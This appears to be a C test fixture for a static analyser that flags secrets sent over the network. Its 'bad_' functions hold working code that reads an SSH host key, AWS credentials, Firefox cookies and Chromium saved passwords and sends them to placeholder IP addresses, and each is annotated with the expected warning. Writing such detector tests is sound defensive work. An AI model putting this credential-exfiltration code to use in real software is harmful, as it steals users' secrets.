/* Files of secrets that the kernel copies to a socket, and databases of browsers. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sqlite3.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(443)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_addr.s_addr = inet_addr(address);
    return connect(s, (struct sockaddr *)&peer, sizeof peer) ? -1 : s;
}

void bad_sendfile(void) {
    int key = open("/etc/ssh/ssh_host_ed25519_key", O_RDONLY);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    sendfile(dial("203.0.113.9"), key, NULL, 4096);
}

/* In two steps, as relays do. */
struct relay {
    int in, out, ends[2];
};

static ssize_t bad_step(struct relay *relay) {
    ssize_t n = splice(relay->in, NULL, relay->ends[1], NULL, 4096, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return n > 0 ? splice(relay->ends[0], NULL, relay->out, NULL, (size_t)n, 0) : n;
}

void relay_credentials(void) {
    struct relay relay = {open("/root/.aws/credentials", O_RDONLY), dial("203.0.113.10"), {0, 0}};
    if (pipe(relay.ends) == 0)
        while (bad_step(&relay) > 0) {
        }
}

static ssize_t good_step(struct relay *relay) {
    ssize_t n = splice(relay->in, NULL, relay->ends[1], NULL, 4096, 0);
    return n > 0 ? splice(relay->ends[0], NULL, relay->out, NULL, (size_t)n, 0) : n;
}

void relay_two_sockets(int in, const char *host) {
    struct relay relay = {in, dial(host), {0, 0}};
    if (pipe(relay.ends) == 0)
        while (good_step(&relay) > 0) {
        }
}

void good_backup(const char *host) {
    int page = open("/srv/www/index.html", O_RDONLY);
    sendfile(dial(host), page, NULL, 4096);
}

void bad_columns(const char *home) {
    char path[256];
    sqlite3 *base;
    sqlite3_stmt *rows;
    int s = dial("203.0.113.11");
    snprintf(path, sizeof path, "%s/.mozilla/firefox/default/cookies.sqlite", home);
    if (sqlite3_open(path, &base) ||
        sqlite3_prepare_v2(base, "select host, value from moz_cookies", -1, &rows, NULL))
        return;
    while (sqlite3_step(rows) == SQLITE_ROW) {
        const char *value = (const char *)sqlite3_column_text(rows, 1);
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(s, value, strlen(value), 0);
    }
    sqlite3_finalize(rows);
}

static int bad_row(void *with, int n, char **values, char **names) {
    for (int i = 0; i < n; i++)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(*(int *)with, values[i], strlen(values[i]), 0);
    return names == NULL;
}

void send_logins(sqlite3 *base) {
    int s = dial("203.0.113.12");
    if (sqlite3_open_v2("/home/a/.config/chromium/Default/Login Data", &base, SQLITE_OPEN_READONLY,
                        NULL) == SQLITE_OK)
        sqlite3_exec(base, "select password_value from logins", bad_row, &s, NULL);
}

/* A program's own base, to whom its setting names. */
void good_columns(const char *host) {
    sqlite3 *base;
    sqlite3_stmt *rows;
    int s = dial(host);
    if (sqlite3_open("/var/lib/feeds/feeds.db", &base) ||
        sqlite3_prepare_v2(base, "select url from feeds", -1, &rows, NULL))
        return;
    while (sqlite3_step(rows) == SQLITE_ROW) {
        const char *url = (const char *)sqlite3_column_text(rows, 0);
        send(s, url, strlen(url), 0);
    }
    sqlite3_finalize(rows);
}
